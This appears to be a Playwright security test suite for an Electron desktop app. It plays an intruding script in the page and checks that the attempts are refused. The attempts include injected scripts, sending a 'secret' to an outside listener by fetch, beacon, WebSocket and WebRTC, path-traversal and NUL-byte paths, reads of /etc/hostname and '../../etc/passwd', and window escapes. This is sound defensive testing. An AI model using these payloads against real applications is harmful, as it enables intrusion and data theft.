import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test, type CDPSession, type Page } from '@playwright/test';
import { desktopArguments, startDesktop, type DesktopApp } from '../../../scripts/desktopApp.ts';
import { packedExecutable } from '../../../scripts/packedApp.ts';
import { listenOnPorts, type ListeningPorts } from '../../fixtures/listeningPorts.ts';

/*
 * The Electron checklist of docs/SECURITY.md, on the packed app: what a script in its page could try, if ever there were
 * one. Nobody is signed in, and no server is there.
 */
let app: DesktopApp;
let page: Page;
let browser: CDPSession;
let outside: ListeningPorts;
let profile: string;

test.beforeAll(async () => {
  profile = await mkdtemp(path.join(tmpdir(), 'ecabinet-hardening-'));
  outside = await listenOnPorts();
  app = await startDesktop(profile, 'http://127.0.0.1:9');
  ({ page } = app);
  browser = await page.context().newCDPSession(page);
  await expect(page.getByRole('button').first()).toBeVisible();
});
test.afterAll(async () => {
  await app.close();
  outside.close();
  await rm(profile, { recursive: true, force: true });
});

/** Runs a script in the page, as if it had got in there; resolves to what it says, or «threw …». */
async function intrude(script: string): Promise<unknown> {
  // After a turn: what the debugger itself evaluates is spared the content policy.
  const turn = 'await new Promise((resolve) => setTimeout(resolve))';
  return await page.evaluate(`(async () => { ${turn}; ${script} })().catch((error) => 'threw ' + error.name)`);
}

/** Several rounds to the shell and back: whatever a script set off before has begun. */
async function rounds(): Promise<void> {
  await intrude(`for (let round = 0; round < 10; round += 1) await window.ecabinet.request('settings.current')`);
}

/** Takes the content policy away, so that what stands behind it is seen to hold by itself. */
async function withoutPolicy(work: () => Promise<void>): Promise<void> {
  await browser.send('Page.setBypassCSP', { enabled: true });
  try {
    await work();
  } finally {
    await browser.send('Page.setBypassCSP', { enabled: false });
  }
}

test.describe('the page', () => {
  test('has one bridge with two functions, and nothing of Node or Electron', async () => {
    expect(await intrude('return Object.keys(window.ecabinet).sort()')).toEqual(['onEvent', 'request']);
    const strange = await intrude(`return Object.getOwnPropertyNames(window)
      .filter((name) => /^(require|process|module|exports|Buffer|global|setImmediate)$|electron|ipc/i.test(name))`);
    expect(strange).toEqual([]);
  });

  test('cannot put something else in the place of its bridge', async () => {
    const script = `return [Reflect.set(window.ecabinet, 'request', 1), Reflect.set(window, 'ecabinet', {})]`;
    expect(await intrude(script)).toEqual([false, false]);
  });

  test('is apart from the preload, which has no Node either', async () => {
    const worlds: { id: number; name: string }[] = [];
    browser.on('Runtime.executionContextCreated', ({ context }) => worlds.push(context));
    await browser.send('Runtime.enable');
    const preload = worlds.find(({ name }) => name === 'Electron Isolated Context');
    if (preload === undefined) throw new Error('the preload has no world of its own');
    const { result } = await browser.send('Runtime.evaluate', {
      contextId: preload.id,
      expression: '[typeof require, typeof process, typeof Buffer, typeof global].join()',
    });
    expect(result.value).toBe('undefined,undefined,undefined,undefined');
  });

  test('runs no script but the app’s own', async () => {
    const response = await intrude(`return (await fetch('/')).headers.get('content-security-policy')`);
    expect(response).toContain("default-src 'none'; script-src 'self' 'wasm-unsafe-eval';");
    expect(await intrude(`return (0, eval)('1')`)).toBe('threw EvalError');
    expect(await intrude(`return new Function('return 1')()`)).toBe('threw EvalError');
    await intrude(`
      const add = (element, attributes) => document.body.append(Object.assign(document.createElement(element), attributes));
      add('script', { textContent: 'window.ran = "inline"' });
      add('script', { src: 'data:text/javascript,window.ran="data"' });
      add('script', { src: URL.createObjectURL(new Blob(['window.ran = "blob"'], { type: 'text/javascript' })) });
      add('script', { src: 'http://${outside.tcp}/script.js' });
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = \\'attribute\\'">');
      const link = Object.assign(document.createElement('a'), { href: 'javascript:window.ran = "link"' });
      document.body.append(link);
      link.click();`);
    await rounds();
    expect(await intrude('return window.ran')).toBeUndefined();
  });
});

test.describe('the network', () => {
  const everyWay = () => `
    const tries = {
      fetch: () => fetch('http://${outside.tcp}/', { mode: 'no-cors' }),
      secure: () => fetch('https://${outside.tcp}/', { mode: 'no-cors' }),
      beacon: async () => { navigator.sendBeacon('http://${outside.tcp}/', 'secret'); throw new Error('sent or not'); },
      file: () => fetch('file:///etc/hostname'),
      document: () => fetch('document://' + 'a'.repeat(64)),
      other: () => fetch('app://elsewhere/'),
      socket: () => new Promise((resolve, reject) => {
        const socket = new WebSocket('ws://${outside.tcp}/');
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
      events: () => new Promise((resolve, reject) => {
        const source = new EventSource('http://${outside.tcp}/');
        source.onopen = resolve;
        source.onerror = () => { source.close(); reject(); };
      }),
      picture: () => new Promise((resolve, reject) => {
        Object.assign(new Image(), { onload: resolve, onerror: reject, src: 'http://${outside.tcp}/picture.png' });
      }),
      style: () => new Promise((resolve, reject) => {
        const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', onload: resolve, onerror: reject });
        link.href = 'http://${outside.tcp}/style.css';
        document.head.append(link);
      }),
    };
    const cameThrough = [];
    for (const [name, attempt] of Object.entries(tries)) {
      await attempt().then(() => cameThrough.push(name), () => undefined);
    }
    return cameThrough;`;

  test('is out of reach for a page', async () => {
    expect(await intrude(everyWay())).toEqual([]);
    expect(outside.heard()).toBe(0);
  });

  test('is out of reach even without the content policy', async () => {
    await withoutPolicy(async () => {
      expect(await intrude(everyWay())).toEqual([]);
    });
    expect(outside.heard()).toBe(0);
  });

  test('is out of reach for calls between browsers, which no content policy covers', async () => {
    const candidates = await intrude(`
      const connection = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:${outside.udp}' },
        { urls: 'turn:${outside.udp}?transport=udp', username: 'secret', credential: 'secret' },
        { urls: 'turn:${outside.tcp}?transport=tcp', username: 'secret', credential: 'secret' },
      ] });
      connection.createDataChannel('channel');
      const gathered = new Promise((resolve) => {
        const found = [];
        connection.onicecandidate = ({ candidate }) => candidate === null ? resolve(found) : found.push(candidate.candidate);
      });
      await connection.setLocalDescription(await connection.createOffer());
      const found = await gathered;
      connection.close();
      return found;`);
    expect(candidates).toEqual([]);
    expect(outside.heard()).toBe(0);
  });
});

test.describe('the window', () => {
  const targets = [
    'http://127.0.0.1:9/',
    'https://example.invalid/',
    'file:///etc/hostname',
    'app://ecabinet/elsewhere.html',
    'app://elsewhere/',
    'data:text/html,elsewhere',
    'chrome://gpu/',
    'document://elsewhere/',
  ];
  const ways = (target: string): string[] => [
    `location.href = '${target}'`,
    `window.open('${target}')`,
    `window.open('${target}', '_self')`,
    `Object.assign(document.createElement('a'), { href: '${target}', target: '_blank' }).click()`,
    `const form = Object.assign(document.createElement('form'), { action: '${target}', method: 'post' });
     document.body.append(form); form.submit()`,
  ];

  for (const target of targets) {
    test(`stays where it is, and alone, whatever leads to ${target}`, async () => {
      await withoutPolicy(async () => {
        await intrude(`window.stays = 'here'`);
        for (const way of ways(target)) {
          await intrude(way);
          await rounds();
        }
        expect(await intrude('return [window.stays, location.origin, location.pathname]')).toEqual([
          'here',
          'app://ecabinet',
          '/',
        ]);
      });
      expect(app.pages()).toHaveLength(1);
    });
  }

  test('shows no frame and no webview, and lends none its bridge', async () => {
    await withoutPolicy(async () => {
      const found = await intrude(`
        const sources = ['app://ecabinet/', 'data:text/html,framed', 'http://${outside.tcp}/'];
        const frames = await Promise.all(sources.map((src) => new Promise((resolve) => {
          const frame = document.createElement('iframe');
          frame.onload = frame.onerror = () => resolve(frame);
          frame.src = src;
          document.body.append(frame);
        })));
        const shows = ({ contentDocument, contentWindow }) =>
          contentDocument?.querySelector('#root') != null || (contentDocument !== null && 'ecabinet' in contentWindow);
        const shown = frames.map(shows);
        for (const frame of frames) frame.remove();
        return { shown, webview: typeof document.createElement('webview').getWebContentsId };`);
      expect(found).toEqual({ shown: [false, false, false], webview: 'undefined' });
    });
    expect(outside.heard()).toBe(0);
  });

  test('saves nothing to the disk', async () => {
    await browser.send('Page.enable');
    const ended = new Promise((resolve) => {
      browser.on('Page.downloadProgress', ({ state }) => state !== 'inProgress' && resolve(state));
    });
    await intrude(`
      const href = URL.createObjectURL(new Blob(['secret']));
      Object.assign(document.createElement('a'), { href, download: 'paper.txt' }).click();`);
    expect(await ended).toBe('canceled');
  });

  test('is given no permission', async () => {
    const states = await intrude(`
      const names = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi', 'background-sync'];
      return Promise.all(names.map(async (name) => (await navigator.permissions.query({ name })).state))`);
    expect(new Set(Array.isArray(states) ? states : [states])).toEqual(new Set(['denied']));
    expect(await intrude(`return await Notification.requestPermission()`)).toBe('denied');
    expect(await intrude(`await navigator.mediaDevices.getUserMedia({ audio: true })`)).toMatch(/^threw/);
    expect(await intrude(`await navigator.mediaDevices.getDisplayMedia({ video: true })`)).toMatch(/^threw/);
    expect(await intrude(`await navigator.clipboard.readText()`)).toMatch(/^threw/);
  });
});

test.describe('the app’s own address', () => {
  const elsewhere = [
    '/../package.json',
    '/%2e%2e/%2e%2e/package.json',
    '/..%2f..%2fpackage.json',
    '/assets/..%2f..%2f..%2fpackage.json',
    '/%252e%252e/package.json',
    '/..%5c..%5cpackage.json',
    '/assets/%00.js',
    '/index.html%00.js',
    '//etc/hostname',
    '/etc/hostname',
    '/assets/',
    '/meetings/one',
    '/main/main.cjs',
  ];
  for (const address of elsewhere) {
    test(`serves nothing at ${address}`, async () => {
      // Chromium itself refuses what holds a NUL.
      const status = await intrude(`return (await fetch('app://ecabinet${address}')).status`);
      expect(status).toBe(address.includes('%00') ? 'threw TypeError' : 404);
    });
  }

  test('serves its files as what they are, and only to itself', async () => {
    const headers = await intrude(`
      const { headers } = await fetch('/pdfjs/wasm/openjpeg.wasm');
      return [headers.get('content-type'), headers.get('x-content-type-options'), headers.get('cross-origin-resource-policy')]`);
    expect(headers).toEqual(['application/wasm', 'nosniff', 'same-origin']);
    expect(await intrude(`return (await fetch('/', { method: 'POST', body: 'x' })).status`)).toBe(405);
  });

  test('lets a page ask the server for nothing but who it is before anybody has signed in', async () => {
    const statuses = await intrude(`
      const paths = ['/session', '/sign-in', '/tickets', '/documents/' + 'a'.repeat(64), '/acts'];
      return Promise.all(paths.map(async (path) => (await fetch('/api/v1' + path)).status))`);
    expect(statuses).toEqual([401, 401, 401, 401, 401]);
    // Nobody answers at its address.
    expect(await intrude(`return (await fetch('/api/v1/server')).status`)).toBe(502);
  });

  test('takes no body that is longer than a piece of an upload', async () => {
    const status = await intrude(`
      const body = new Uint8Array(1024 * 1024 + 1);
      return (await fetch('/api/v1/uploads/x', { method: 'PATCH', body })).status`);
    expect(status).toBe(413);
  });
});

test.describe('the shell', () => {
  const refused = { ok: false, why: 'refused' };

  test('answers no request that is not in the table, the vault’s own ones least of all', async () => {
    const names = [
      'start',
      'stop',
      'pass',
      'shell.unwrap',
      'server.change',
      'window.closed',
      '__proto__',
      'constructor',
    ];
    for (const name of [...names, 'toString', '', 'session', 'x'.repeat(100_000)]) {
      expect(await intrude(`return await window.ecabinet.request(${JSON.stringify(name)})`)).toEqual(refused);
    }
    for (const name of ['undefined', 'null', '7', '{}', "['session.state']"]) {
      expect(await intrude(`return await window.ecabinet.request(${name})`)).toEqual(refused);
    }
  });

  test('passes no request on that is malformed or too long', async () => {
    const requests = [
      `'session.state', {}`,
      `'settings.change', { theme: 'loud' }`,
      `'settings.change', { theme: 'dark', extra: 1 }`,
      `'documents.read', { sha256: '../../etc/passwd', begin: 0, end: 1 }`,
      `'documents.read', { sha256: '${'a'.repeat(64)}', begin: 0, end: 5 * 1024 * 1024 }`,
      `'documents.read', { sha256: '${'a'.repeat(64)}', begin: 2, end: 1 }`,
      `'rooms.update', { room: 'draft/x', update: new Uint8Array(256 * 1024 + 1) }`,
      `'rooms.update', { room: 'draft/x', update: [1, 2, 3] }`,
      `'rooms.open', { room: 'x'.repeat(201) }`,
      `'memory.set', { key: 'k', value: 'x'.repeat(64 * 1024) }`,
      `'acts.submit', { type: 'meeting.create', body: 'x'.repeat(4_300_000) }`,
      `'session.signIn', { server: 'http://127.0.0.1:9', username: '', password: 'x' }`,
    ];
    for (const request of requests) {
      expect(await intrude(`return await window.ecabinet.request(${request})`), request).toEqual(refused);
    }
    expect(await intrude(`return await window.ecabinet.request('session.state')`)).toMatchObject({ ok: true });
  });

  test('answers with what stands in the table, and tells no page of what went wrong inside', async () => {
    const read = `'documents.read', { sha256: '${'a'.repeat(64)}', begin: 0, end: 1 }`;
    expect(await intrude(`return await window.ecabinet.request(${read})`)).toEqual({ ok: false, why: 'failed' });
  });

  test('lets nobody start a second one on the same profile', async () => {
    const second = spawn(packedExecutable, desktopArguments(profile), { stdio: 'ignore' });
    await once(second, 'exit');
    expect(second.exitCode).toBe(0);
    expect(app.pages()).toHaveLength(1);
  });
});
